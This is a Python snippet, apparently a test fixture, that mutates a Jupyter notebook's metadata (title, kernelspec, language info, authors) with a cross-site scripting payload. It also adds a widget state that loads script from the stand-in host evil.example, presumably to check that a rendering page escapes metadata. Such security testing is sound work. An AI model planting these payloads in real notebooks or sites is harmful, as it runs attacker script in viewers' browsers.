"""Metadata of the notebook that stands in the page: its title, its language and the state of widgets."""

import json


def change_submission(folder):
    path = folder / "softmax.ipynb"
    notebook = json.loads(path.read_text(encoding="utf-8"))
    tag = '"></title><script>document.title = "PWNED"</script>'
    state = {"state": {tag: {"model_module": "https://evil.example/w.js"}}, "version_major": 2}
    notebook["metadata"] |= {"title": tag, "language_info": {"name": tag, "pygments_lexer": tag}, "authors": [tag]}
    notebook["metadata"]["kernelspec"] = {"name": tag, "display_name": tag, "language": tag}
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    path.write_text(json.dumps(notebook), encoding="utf-8")
